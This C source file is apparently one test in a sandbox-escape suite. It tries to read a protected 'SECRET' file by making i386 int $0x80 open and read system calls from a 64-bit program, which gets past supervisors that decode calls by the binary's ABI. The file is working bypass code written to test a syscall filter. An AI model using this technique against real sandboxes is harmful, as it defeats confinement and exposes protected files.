/* e0803-int80-open - open the secret with i386 system calls from a
 * 64-bit program (int $0x80).
 *
 * Attack: int $0x80 enters the kernel's i386 table from a 64-bit program:
 * same registers, other numbers (5 is open, 3 read, not fstat and
 * read...).  A supervisor that decodes by the binary's ABI, not by the
 * stop's, checks the wrong call.  Needs IA32 emulation: where it is off,
 * int $0x80 faults and the test is skipped.
 * Source: DESIGN.md ("i386 int $0x80 — a classic bypass: same numbers,
 * different calls"); Garfinkel 2003 (multiple system call entry points).
 * Usage: e0803-int80-open SECRET */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

#if defined(__x86_64__)
#define I386_READ 3
#define I386_OPEN 5
#define I386_GETPID 20

static long int80(long nr, long a, long b, long c)
{
	long r;
	__asm__ volatile ("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c)
			  : "memory", "r8", "r9", "r10", "r11");
	return r;
}

/* Whether int $0x80 works here: try it in a child, which may fault. */
static bool int80_works(void)
{
	fflush(NULL);
	pid_t pid = fork();
	if (pid == 0)
		_exit(int80(I386_GETPID, 0, 0, 0) > 0 ? 0 : 1);
	int status;
	return pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) &&
	       WEXITSTATUS(status) == 0;
}
#endif

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0803-int80-open SECRET");
#if defined(__x86_64__)
	if (!int80_works()) {
		fprintf(stderr, "SKIP: int $0x80 faults here (no IA32 emulation)\n");
		return ESC_SKIP;
	}
	/* i386 calls take 32-bit pointers. */
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED)
		esc_die("mmap MAP_32BIT");
	snprintf(low, 2048, "%s", argv[1]);
	long fd = int80(I386_OPEN, (long)low, O_RDONLY, 0);
	esc_show_result("i386 open SECRET", fd);
	if (fd >= 0) {
		memset(low + 2048, 0, 2048);
		long n = int80(I386_READ, fd, (long)(low + 2048), 2047);
		if (n >= 0)
			printf("i386 read: read '%s'\n", low + 2048);
		else
			esc_show_result("i386 read", n);
	}
	return 0;
#else
	(void)argv;
	fprintf(stderr, "SKIP: int $0x80 from 64-bit code exists only on x86_64\n");
	return ESC_SKIP;
#endif
}
